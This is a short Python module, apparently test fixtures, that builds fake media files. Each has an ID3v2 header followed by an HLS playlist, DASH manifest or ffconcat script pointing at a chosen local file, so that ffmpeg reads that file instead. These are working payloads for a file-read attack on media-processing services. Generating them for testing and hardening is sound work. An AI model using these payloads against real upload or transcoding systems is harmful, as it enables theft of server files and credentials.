"""Files that pass for media at first sight but make ffmpeg read something else.

Each is an ID3v2 header (the start of an MP3) followed by a format that names another file:
an HLS playlist, a DASH manifest, an ffconcat script. Without a forced demuxer ffmpeg skips the
tag, recognises the rest, and reads the file it names.
"""

from __future__ import annotations

from pathlib import Path

ID3_HEADER = b"ID3\x04\x00\x00\x00\x00\x00\x00"  # ID3v2.4, no flags, an empty tag


def hls_polyglot(target: Path) -> bytes:
    playlist = (
        "#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXT-X-MEDIA-SEQUENCE:0\n"
        f"#EXTINF:10,\nfile://{target}\n#EXT-X-ENDLIST\n"
    )
    return ID3_HEADER + playlist.encode()


def dash_polyglot(target: Path) -> bytes:
    manifest = (
        '<?xml version="1.0"?>\n<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
        'mediaPresentationDuration="PT3S" minBufferTime="PT1S" '
        'profiles="urn:mpeg:dash:profile:isoff-on-demand:2011"><Period><AdaptationSet>'
        f'<Representation id="a" bandwidth="64000"><BaseURL>file://{target}</BaseURL>'
        "</Representation></AdaptationSet></Period></MPD>\n"
    )
    return ID3_HEADER + manifest.encode()


def ffconcat_polyglot(target: Path) -> bytes:
    return ID3_HEADER + f"ffconcat version 1.0\nfile '{target}'\n".encode()


POLYGLOTS = {"hls": hls_polyglot, "dash": dash_polyglot, "ffconcat": ffconcat_polyglot}
